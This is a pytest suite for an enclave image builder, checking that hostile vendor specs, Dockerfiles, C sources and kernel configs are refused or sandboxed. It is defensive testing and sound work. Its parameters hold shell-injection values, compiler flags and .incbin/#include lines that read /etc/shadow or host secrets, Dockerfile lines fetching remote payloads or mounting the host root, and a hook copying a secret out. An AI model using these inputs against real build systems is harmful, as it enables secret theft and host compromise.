"""build against a hostile vendor: its spec, source tree, C code and Dockerfile attack the
auditor who builds or rebuilds them.

Each case of the corpus (tests/hostile_corpus.py) is refused with its exit code (30 for
a spec, 33 for a build step) before anything of it runs: no marker file appears and the
host secret is in no output.  Held-out variants of each class are in the parameters.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest
from conftest import assert_one_line_error, need, need_tool, run_cli
from hostile_corpus import Host, make_host, make_tree, spec_text

from builder.app import collect_sources, tree_files
from builder.init import build_init, dependencies, init_cache_key
from builder.inputs.refs import make_resolver
from builder.rootfs.docker import DockerBackend, check_dockerfile, context_sources
from builder.sandbox import Sandbox, available, run_sandboxed
from builder.spec import InitSpec, load_spec
from enclave_audit.errors import BuildStepFailed, SpecInvalid
from enclave_audit.progress import NullProgress


@pytest.fixture()
def host(tmp_path: Path) -> Host:
    return make_host(tmp_path / "host")


def _build_cli(spec: Path, out: Path, *extra: str) -> object:
    return run_cli(["build", "--spec", str(spec), "--source-date-epoch", "1700000000",
                    *extra, "-o", str(out)], timeout=120)  # fmt: skip


def _refused(tmp_path: Path, host: Host, spec: Path, *needles: str) -> None:
    """The spec is refused by load_spec and by the CLI (exit 30), nothing ran or leaked."""
    with pytest.raises(SpecInvalid):
        load_spec(spec)
    out = tmp_path / "out"
    result = _build_cli(spec, out)
    assert_one_line_error(result, 30, *needles)  # type: ignore[arg-type]
    assert not out.exists()
    host.assert_clean(result.stdout, result.stderr)  # type: ignore[attr-defined]


# --- spec strings that would become options or shell words ------------------------------


@pytest.mark.parametrize(
    "mirror",
    [
        "--setup-hook=touch {marker}",
        "deb http://deb.debian.org/debian bookworm main --setup-hook=touch {marker}",
        "deb --customize-hook=touch{marker} bookworm main",
        "deb [trusted=yes] http://deb.debian.org/debian bookworm main",
        "deb http://deb.debian.org/debian bookworm main\ndeb file:/ x y",
        "deb copy:///etc bookworm main",
        "deb file:///etc bookworm main",
        "deb http://deb.debian.org/debian $(touch {marker}) main",
        "deb-src http://deb.debian.org/debian bookworm main",
        "deb http://user@evil/debian bookworm main",
        "deb http://deb.debian.org/debian bookworm",
    ],
)
def test_mirror_option_strings_are_refused(tmp_path: Path, host: Host, mirror: str) -> None:
    spec = make_tree(tmp_path / "src", mirrors=(mirror.format(marker=host.marker),))
    _refused(tmp_path, host, spec, "mirror")


@pytest.mark.parametrize(
    "path",
    [
        '/usr/share/x"; touch {marker}; echo "',
        "/usr/$(touch {marker})",
        "/usr/`touch {marker}`",
        "/usr/share/doc; touch {marker}",
        "/usr/share/a b",
        "/usr/share/*",
        "/etc/../../{marker}",
        "relative/path",
        "/usr/share/x\n/etc",
        "/",
        "-rf",
    ],
)
def test_remove_paths_with_shell_metacharacters_are_refused(
    tmp_path: Path, host: Host, path: str
) -> None:
    spec = make_tree(tmp_path / "src", remove_paths=(path.format(marker=host.marker),))
    _refused(tmp_path, host, spec, "remove_paths")


@pytest.mark.parametrize(
    ("section", "line"),
    [
        ("debian", 'path_exclude = ["/usr/share/doc/*\\npath-include=/etc/*"]'),
        ("debian", 'path_exclude = ["usr/share/doc/*"]'),
        ("debian", 'path_include = ["/usr/share/doc/* --force-all"]'),
        ("debian", 'suite = "--setup-hook=x"'),
        ("init", 'cflags = ["-Wa,-I/etc"]'),
        ("init", 'cflags = ["@/etc/shadow"]'),
        ("init", 'cflags = ["-fplugin=/tmp/evil.so"]'),
        ("init", 'cflags = ["-include", "/etc/passwd"]'),
        ("init", 'cflags = ["-B/tmp"]'),
        ("init", 'cflags = ["-specs=/tmp/x"]'),
        ("init", 'cflags = ["-fprofile-use=/etc/passwd"]'),
        ("init", 'helpers = ["../init/init.c"]'),
        ("app", 'site_packages = "/usr/../../init"'),
    ],
)
def test_other_spec_strings_are_refused(
    tmp_path: Path, host: Host, section: str, line: str
) -> None:
    spec = make_tree(tmp_path / "src")
    text = spec.read_text().replace(f"[{section}]\n", f"[{section}]\n{line}\n", 1)
    spec.write_text(text)
    _refused(tmp_path, host, spec)


def test_wheel_names_are_not_options(tmp_path: Path, host: Host) -> None:
    spec = make_tree(tmp_path / "src")
    spec.write_text(
        spec.read_text()
        + '\n[[wheels]]\nname = "--index-url=http://evil"\nversion = "1"\n'
        + 'filename = "x-1-py3-none-any.whl"\nsha256 = "'
        + "0" * 64
        + '"\n'
    )
    _refused(tmp_path, host, spec, "wheels")


# --- spec files that are hostile as files ---------------------------------------------------


def test_deeply_nested_spec_is_refused(tmp_path: Path, host: Host) -> None:
    spec = tmp_path / "src" / "spec" / "enclave.toml"
    make_tree(tmp_path / "src")
    spec.write_text("x = " + "[" * 200_000 + "]" * 200_000 + "\n")
    _refused(tmp_path, host, spec, "nested")
    spec.write_text("x = " + "[" * 40 + "]" * 40 + "\n")  # parses, then the depth bound
    _refused(tmp_path, host, spec, "nested")


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "directory", "huge"])
def test_spec_that_is_not_a_small_regular_file_is_refused(
    tmp_path: Path, host: Host, kind: str
) -> None:
    make_tree(tmp_path / "src")
    spec = tmp_path / "src" / "spec" / "enclave.toml"
    spec.unlink()
    if kind == "fifo":
        os.mkfifo(spec)
    elif kind == "dev-zero":
        spec.symlink_to("/dev/zero")
    elif kind == "directory":
        spec.mkdir()
    else:
        spec.write_bytes(b"# " + b"x" * (2 << 20) + b"\n")
    needle = {"fifo": "FIFO", "dev-zero": "device", "directory": "directory", "huge": "limit"}
    if kind == "directory":  # the CLI's own usage check answers first (exit 2)
        with pytest.raises(SpecInvalid, match="directory"):
            load_spec(spec)
        assert_one_line_error(_build_cli(spec, tmp_path / "out"), 2, "directory")  # type: ignore[arg-type]
        return
    _refused(tmp_path, host, spec, needle[kind])


@pytest.mark.parametrize("kind", ["fifo", "dev-zero"])
def test_lock_or_kernel_config_that_is_a_fifo_or_device_is_refused(
    tmp_path: Path, host: Host, kind: str
) -> None:
    for name in ("debian.lock", "kernel/k.config"):
        spec = make_tree(tmp_path / name.replace("/", "-"))
        target = spec.parent / name
        target.unlink()
        if kind == "fifo":
            os.mkfifo(target)
        else:
            target.symlink_to("/dev/zero")
        with pytest.raises(SpecInvalid):
            load_spec(spec)


# --- paths that leave the source tree -----------------------------------------------------------


@pytest.mark.parametrize("field", ["config", "init", "lock"])
@pytest.mark.parametrize("how", ["dotdot", "absolute", "symlink", "symlinked-dir"])
def test_spec_paths_outside_the_source_root_are_refused(
    tmp_path: Path, host: Host, field: str, how: str
) -> None:
    src = tmp_path / "src"
    make_tree(src)
    outside = host.secret_file
    if how == "dotdot":
        rel = os.path.relpath(outside, src / "spec")
    elif how == "absolute":
        rel = str(outside)
    elif how == "symlink":
        (src / "spec" / "link").symlink_to(outside)
        rel = "link"
    else:
        (src / "spec" / "hostdir").symlink_to(outside.parent)
        rel = f"hostdir/{outside.name}"
    spec = src / "spec" / "enclave.toml"
    spec.write_text(spec_text(**{field: rel}))
    _refused(tmp_path, host, spec, field if field != "lock" else "debian.lock")


@pytest.mark.parametrize("how", ["package-dir", "file-in-package", "dir-in-package", "loop"])
def test_symlinked_package_is_refused(tmp_path: Path, host: Host, how: str) -> None:
    src = tmp_path / "src"
    spec = make_tree(src)
    if how == "package-dir":
        shutil.rmtree(src / "app")
        evil = host.root / "evil_pkg"
        evil.mkdir()
        (evil / "__init__.py").write_text("")
        shutil.copy(host.secret_file, evil / "data.txt")
        (src / "app").symlink_to(evil)
    elif how == "file-in-package":
        (src / "app" / "data.txt").symlink_to(host.secret_file)
    elif how == "dir-in-package":
        (src / "app" / "data").symlink_to(host.root)
    else:
        (src / "app" / "a").symlink_to(src / "app" / "b")
        (src / "app" / "b").symlink_to(src / "app" / "a")
    with pytest.raises(SpecInvalid):
        collect_sources(src, ["app"])
    _refused(tmp_path, host, spec)


def test_in_tree_symlink_in_package_is_not_copied(tmp_path: Path) -> None:
    src = tmp_path / "src"
    make_tree(src)
    (src / "app" / "alias.py").symlink_to("server.py")
    assert [f.rel for f in collect_sources(src, ["app"])] == ["app/__init__.py", "app/server.py"]


# --- the docker context and Dockerfile ----------------------------------------------------------


def _docker_tree(tmp_path: Path, dockerfile: str = "ARG BASE\nFROM ${BASE}\n") -> Path:
    spec = make_tree(tmp_path / "src")
    (spec.parent / "docker").mkdir()
    (spec.parent / "docker" / "Dockerfile").write_text(dockerfile)
    return spec


@pytest.mark.parametrize("how", ["context-dir", "file-in-context", "dockerfile", "subdir"])
def test_symlinked_docker_context_is_refused(tmp_path: Path, host: Host, how: str) -> None:
    spec = _docker_tree(tmp_path)
    context = spec.parent / "docker"
    if how == "context-dir":
        shutil.rmtree(context)
        evil = host.root / "ctx"
        evil.mkdir()
        (evil / "Dockerfile").write_text("ARG BASE\nFROM ${BASE}\nCOPY secret /secret\n")
        shutil.copy(host.secret_file, evil / "secret")
        context.symlink_to(evil)
    elif how == "file-in-context":
        (context / "secret").symlink_to(host.secret_file)
    elif how == "dockerfile":
        (context / "Dockerfile").unlink()
        (context / "Dockerfile").symlink_to(host.secret_file)
    else:
        (context / "etc").symlink_to("/etc")
    loaded = load_spec(spec)
    with pytest.raises(SpecInvalid):
        context_sources(loaded)
    with pytest.raises(SpecInvalid):
        DockerBackend(client=object()).build_rootfs(
            loaded, epoch=1700000000, use_cache=False, progress=NullProgress(),
            resolver=make_resolver(loaded),
        )  # fmt: skip
    # the tree digest covers the context: a symlinked one never gets that far
    with pytest.raises(SpecInvalid):
        tree_files(loaded, "docker")


def test_docker_context_is_part_of_the_tree_digest(tmp_path: Path) -> None:
    from builder.app import tree_digest

    spec = _docker_tree(tmp_path)
    loaded = load_spec(spec)
    before = tree_digest(tree_files(loaded, "docker"))
    assert "spec/docker/Dockerfile" in [f.rel for f in tree_files(loaded, "docker")]
    assert tree_digest(tree_files(loaded, "native")) != before
    (spec.parent / "docker" / "Dockerfile").write_text("ARG BASE\nFROM ${BASE}\nENV X=1\n")
    assert tree_digest(tree_files(loaded, "docker")) != before
    (spec.parent / "docker" / "Dockerfile").write_text("ARG BASE\nFROM ${BASE}\n")
    (spec.parent / "docker" / "extra.txt").write_text("context file\n")
    assert tree_digest(tree_files(loaded, "docker")) != before


@pytest.mark.parametrize(
    "line",
    [
        "ADD http://example.invalid/payload /payload",
        "ADD HTTPS://example.invalid/payload /payload",
        "add\thttps://example.invalid/payload /payload",
        'ADD ["https://example.invalid/payload", "/payload"]',
        "ADD --chown=0:0 https://example.invalid/payload /payload",
        "ADD --checksum=sha256:00 https://example.invalid/payload /payload",
        "ADD git@github.com:vendor/repo.git /repo",
        "ADD https://github.com/vendor/repo.git#main /repo",
        'ADD "http://example.invalid/x" /x',
        "ADD ht\\tp://example.invalid/x /x",
        "ADD ${URL} /x",
        "ADD \\\n  http://example.invalid/x /x",
        "FROM alpine:latest",
        "FROM ${BASE} AS a\nFROM scratch",
        "COPY --from=alpine:latest /etc/passwd /x",
        "COPY --from=${IMG} /x /x",
        "ONBUILD ADD http://example.invalid/x /x",
        "RUN --mount=type=bind,source=/,target=/host cat /host/etc/shadow",
        "RUN --network=host true",
    ],
)
def test_dockerfile_remote_sources_are_refused(tmp_path: Path, host: Host, line: str) -> None:
    text = "ARG BASE\nFROM ${BASE}\n" + line + "\n"
    with pytest.raises(SpecInvalid):
        check_dockerfile(Path("Dockerfile"), text)
    spec = _docker_tree(tmp_path, text)
    loaded = load_spec(spec)
    with pytest.raises(SpecInvalid):
        DockerBackend(client=object()).build_rootfs(
            loaded, epoch=1700000000, use_cache=False, progress=NullProgress(),
            resolver=make_resolver(loaded),
        )  # fmt: skip
    result = _build_cli(spec, tmp_path / "out", "--backend", "docker")
    # refused before any engine is asked to build (exit 30), or the engine is missing (5)
    assert result.exit_code in (30, 5), result.stderr  # type: ignore[attr-defined]
    assert not (tmp_path / "out").exists()
    host.assert_clean(result.stdout, result.stderr)  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    "text",
    [
        "ARG BASE\nFROM ${BASE}\nCOPY x /x\nRUN true\n",
        "# escape=`\nARG BASE\nFROM ${BASE} AS build\nRUN echo `\n  hi\nFROM build\n",
        "ARG BASE\nFROM ${BASE} AS one\nFROM ${BASE}\nCOPY --from=one /x /x\nADD x.tar /\n",
        'ARG BASE\nFROM $BASE\nCMD ["/bin/sh", "-c", "echo ADD http://x"]\n',
    ],
)
def test_ordinary_dockerfiles_pass(text: str) -> None:
    check_dockerfile(Path("Dockerfile"), text)


# --- C sources that name host files ----------------------------------------------------------


def _need_sandbox() -> None:
    need_tool("musl-gcc", "musl-tools")
    need_tool("bwrap", "bubblewrap")
    why = available()
    need(not why, f"the build sandbox does not work here: {why}")


@pytest.mark.parametrize(
    "source",
    [
        '__asm__(".section .rodata\\n.incbin \\"{secret}\\"\\n.previous");\n',
        '__asm__(".INCBIN \\"{secret}\\"");\n',
        '__asm__(".include \\"{secret}\\"");\n',
        '__asm__(".macro m x\\n.inc\\\\x \\"{secret}\\"\\n.endm\\nm bin");\n',
        '__asm__(".irp x,bin\\n.inc\\\\x \\"{secret}\\"\\n.endr");\n',
        '#define S(x) #x\n__asm__(".inc" "bin \\"{secret}\\"");\n',
    ],
)
def test_incbin_of_a_host_file_is_refused(tmp_path: Path, host: Host, source: str) -> None:
    _need_sandbox()
    src = tmp_path / "init.c"
    src.write_text(source.format(secret=host.secret_file) + "int main(void) { return 0; }\n")
    for use_cache in (False, True):
        with pytest.raises((SpecInvalid, BuildStepFailed)) as err:
            build_init(InitSpec(source="init.c"), src, tmp_path / "out", use_cache=use_cache)
        assert host.secret.decode() not in err.value.message
    assert not (tmp_path / "out" / "init").exists()
    host.assert_clean(tmp_path / "out")


@pytest.mark.parametrize(
    "source",
    [
        'static const char leak[] = {{\n#include "{secret}"\n}};\n',
        '#include "{secret}"\n',
        '#include "/proc/self/environ"\n',
        '#include "/dev/zero"\n',
        '#include "../../host/host-secret.txt"\n',
    ],
)
def test_includes_of_host_files_fail_in_the_sandbox(
    tmp_path: Path, host: Host, source: str
) -> None:
    """The compiler cannot open a host file: it does not exist in the sandbox."""
    _need_sandbox()
    src = tmp_path / "init.c"
    src.write_text(source.format(secret=host.secret_file) + "int main(void) { return 0; }\n")
    with pytest.raises(BuildStepFailed) as err:
        build_init(InitSpec(source="init.c"), src, tmp_path / "out")
    assert "init dependencies" in err.value.message
    assert host.secret.decode() not in err.value.message
    host.assert_clean(tmp_path / "out")


def test_assembler_in_the_sandbox_cannot_read_host_files(tmp_path: Path, host: Host) -> None:
    """Even an .incbin the scan missed could not read a host file: the sandbox lacks it."""
    _need_sandbox()
    work = tmp_path / "work"
    work.mkdir()
    (work / "x.s").write_text(f'.section .rodata\n.incbin "{host.secret_file}"\n')
    done = run_sandboxed(
        ["/usr/bin/as", "-o", "x.o", "x.s"],
        sandbox=Sandbox(writable=(work,)),
        cwd=work,
        env={"PATH": "/usr/bin"},
        what="as",
        check=False,
    )
    assert done.returncode != 0 and b"file not found" in done.stderr.lower()
    assert not (work / "x.o").exists() or host.secret not in (work / "x.o").read_bytes()
    # control: outside the sandbox the same file is read
    shutil.copy(work / "x.s", tmp_path / "y.s")
    import subprocess

    subprocess.run(["as", "-o", str(tmp_path / "y.o"), str(tmp_path / "y.s")], check=True)
    assert host.secret in (tmp_path / "y.o").read_bytes()


def test_sandbox_sees_no_host_paths_and_no_network(tmp_path: Path, host: Host) -> None:
    _need_sandbox()
    work = tmp_path / "work"
    work.mkdir()
    script = (
        f"test ! -e {host.secret_file} && test ! -e {host.root} && test ! -e /root/.cache"
        " && test ! -e /etc/passwd && test ! -e /home && test ! -e /var && test ! -e /proc/1"
        f" && touch {work}/ok && ! touch /usr/x 2>/dev/null"
        " && ! (exec 3<>/dev/tcp/127.0.0.1/22) 2>/dev/null"
        " && python3 -c 'import socket, sys; sys.exit(socket.if_nameindex() != [(1, \"lo\")])'"
    )
    done = run_sandboxed(
        ["/bin/bash", "-c", script],
        sandbox=Sandbox(writable=(work,)),
        cwd=work,
        env={"PATH": "/usr/bin:/bin"},
        what="probe",
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert (work / "ok").exists()
    # no capability at all, even for root; /proc (when asked for) is the sandbox's own
    done = run_sandboxed(
        ["/bin/sh", "-c", "grep CapEff /proc/self/status; ls /proc | grep -c '^[0-9]'"],
        sandbox=Sandbox(writable=(work,), proc=True),
        cwd=work,
        env={"PATH": "/usr/bin:/bin"},
        what="probe",
    )
    caps, pids = done.stdout.decode().split("\n")[:2]
    assert caps.split() == ["CapEff:", "0000000000000000"]
    assert int(pids) <= 4  # bwrap's init, sh, ls, grep: no host process


def test_init_cache_key_covers_every_file_the_compiler_reads(tmp_path: Path) -> None:
    """The key is built from the compiler's own dependency output (-MD): source + headers."""
    _need_sandbox()
    work = tmp_path / "w"
    work.mkdir()
    (work / "init.c").write_text('#include <stdio.h>\nint main(void) { return puts("x"); }\n')
    flags = ("-Os", "-static")
    deps = dependencies(work, flags)
    names = [name for name, _ in deps]
    assert "init.c" in names
    assert any(n.endswith("/stdio.h") for n in names)
    key = init_cache_key(deps, flags)
    for i in range(len(deps)):
        changed = list(deps)
        changed[i] = (deps[i][0], "0" * 64)
        assert init_cache_key(tuple(changed), flags) != key, deps[i][0]
    # another header included: another key
    (work / "init.c").write_text(
        '#include <stdio.h>\n#include <string.h>\nint main(void) { return puts("x"); }\n'
    )
    assert init_cache_key(dependencies(work, flags), flags) != key


def test_kernel_config_that_reads_host_files_is_refused(tmp_path: Path, host: Host) -> None:
    for option in (
        f'CONFIG_INITRAMFS_SOURCE="{host.root}"',
        'CONFIG_EXTRA_FIRMWARE="x.bin"',
        f'CONFIG_EXTRA_FIRMWARE_DIR="{host.root}"',
        f'CONFIG_SYSTEM_TRUSTED_KEYS="{host.secret_file}"',
        f'CONFIG_MODULE_SIG_KEY="{host.secret_file}"',
    ):
        src = tmp_path / option.split("=")[0]
        spec = make_tree(src)
        (spec.parent / "kernel" / "k.config").write_text(f"CONFIG_64BIT=y\n{option}\n")
        _refused(tmp_path / "cli" / option.split("=")[0], host, spec, "kernel build would read")


# --- the root filesystem: mmdebstrap in the sandbox, remove_paths without a shell ----------


def _run_hook(tmp_path: Path, paths: list[str]) -> tuple[int, str]:
    import subprocess

    from builder.rootfs.native import _REMOVE_HOOK

    hook = tmp_path / "hook"
    hook.write_text(_REMOVE_HOOK)
    hook.chmod(0o755)
    done = subprocess.run(
        [str(hook), str(tmp_path / "chroot")],
        env={"PATH": "/usr/bin:/bin", "ENCLAVE_AUDIT_REMOVE_PATHS": "\n".join(paths)},
        capture_output=True,
        check=False,
    )
    return done.returncode, done.stderr.decode()


def test_remove_paths_hook_removes_without_following_links(tmp_path: Path, host: Host) -> None:
    chroot = tmp_path / "chroot"
    (chroot / "usr" / "share" / "doc" / "pkg").mkdir(parents=True)
    (chroot / "usr" / "share" / "doc" / "pkg" / "copyright").write_text("c\n")
    (chroot / "etc").mkdir()
    (chroot / "etc" / "keep").write_text("k\n")
    (chroot / "etc" / "link").symlink_to(host.secret_file)
    (chroot / "opt").symlink_to(host.root)  # a directory link leading out of the chroot
    rc, err = _run_hook(tmp_path, ["/usr/share/doc", "/etc/link", "/does/not/exist"])
    assert rc == 0, err
    assert not (chroot / "usr" / "share" / "doc").exists()
    assert not os.path.lexists(chroot / "etc" / "link")
    assert host.secret_file.exists() and (chroot / "etc" / "keep").exists()
    rc, err = _run_hook(tmp_path, [f"/opt/{host.secret_file.name}"])
    assert rc != 0 and "symlink" in err
    assert host.secret_file.exists()
    rc, err = _run_hook(tmp_path, ["/etc/../.."])
    assert rc != 0 and host.root.exists()


def test_install_sandbox_keeps_no_mount_or_device_capability(tmp_path: Path, host: Host) -> None:
    """The capabilities mmdebstrap keeps cannot undo the sandbox."""
    _need_sandbox()
    from builder.sandbox import INSTALL_CAPS

    need(os.geteuid() == 0, "the install sandbox runs as root")
    work = tmp_path / "work"
    work.mkdir()
    script = (
        "grep -q '^NoNewPrivs:.*1' /proc/self/status"
        " && ! mount -o remount,rw /usr 2>/dev/null && ! mount -t tmpfs x /mnt 2>/dev/null"
        f" && ! mknod {work}/sda b 8 0 2>/dev/null && ! touch /usr/x 2>/dev/null"
        f" && test ! -e {host.secret_file} && test ! -e /root && test ! -e /home"
        " && python3 -c 'import socket, sys; sys.exit(socket.if_nameindex() != [(1, \"lo\")])'"
        f" && chroot / true && touch {work}/ok"
    )
    done = run_sandboxed(
        ["/bin/bash", "-c", script],
        sandbox=Sandbox(writable=(work,), caps=INSTALL_CAPS, proc=True, devices=True),
        cwd=work,
        env={"PATH": "/usr/sbin:/usr/bin:/bin"},
        what="probe",
        check=False,
    )
    assert done.returncode == 0 and (work / "ok").exists(), done.stderr
    with pytest.raises(ValueError, match="CAP_SYS_ADMIN"):
        Sandbox(caps=("CAP_SYS_ADMIN",)).command(["true"], cwd=work, env={})


@pytest.mark.slow
def test_mmdebstrap_hooks_run_in_the_sandbox(tmp_path: Path, host: Host) -> None:
    """A hook that tries to read a host file and write a marker on the host does neither,
    and the sandboxed install gives the same tarball as before; remove_paths apply."""
    need_tool("mmdebstrap")
    need(os.geteuid() == 0, "mmdebstrap installs as root")
    _need_sandbox()
    from builder.inputs.localrepo import write_local_repo
    from builder.rootfs.native import lock_from_debs, run_mmdebstrap, sources_list_text

    sample = Path(__file__).resolve().parent / "data" / "docker"
    src = tmp_path / "src"
    shutil.copytree(sample, src)
    reference = Path(__file__).resolve().parents[2] / "reference_enclave"
    for rel in ("kernel/enclave.config", "init/init.c"):
        (src / "spec" / rel).parent.mkdir(exist_ok=True)
        shutil.copy(reference / rel, src / "spec" / rel)
    spec = src / "spec" / "enclave.toml"
    spec.write_text(
        spec.read_text().replace(
            "[debian]\n",
            '[debian]\nremove_paths = ["/usr/share/common-licenses", "/etc/issue"]\n',
            1,
        )
    )
    loaded = load_spec(spec)
    from builder.inputs.refs import lock_input

    resolver = make_resolver(loaded)
    refs = [lock_input(p) for p in loaded.lock]
    resolver.locate(refs)
    work = tmp_path / "work"
    work.mkdir()
    os.chmod(work, 0o755)
    repo = write_local_repo(
        work / "repo",
        [(p, resolver.path(r)) for p, r in zip(loaded.lock, refs, strict=True)],
        suite=loaded.spec.debian.suite,
    )
    sources = work / "sources.list"
    sources.write_text(sources_list_text(loaded.spec.debian.mirrors))
    debs = work / "debs"
    debs.mkdir()
    out = work / "out"
    out.mkdir()
    hostile = (
        f'cp {host.secret_file} "$1/leak" 2>/dev/null || true;'
        f" touch {host.marker} 2>/dev/null || true;"
        f' ls -A / > "$1/root-listing"'
    )
    run_mmdebstrap(
        loaded,
        includes=[f"{p.name}={p.version}" for p in loaded.lock],
        epoch=1700000000,
        tar=out / "rootfs.tar",
        debs=debs,
        sources=[repo],
        extra_hooks=(f"upload {sources} /etc/apt/sources.list", hostile),
        uploads=(sources,),
    )
    import tarfile

    with tarfile.open(out / "rootfs.tar") as tf:
        names = set(tf.getnames())
        listing = tf.extractfile("./root-listing").read().decode().split()  # type: ignore[union-attr]
    assert "./leak" not in names
    assert "./usr/share/common-licenses" not in names and "./etc/issue" not in names
    assert "./usr/bin/hello" in names
    assert "root" not in listing and "home" not in listing  # the host's / is not there
    assert {p.name for p in lock_from_debs(debs)} == {p.name for p in loaded.lock}
    host.assert_clean(out)
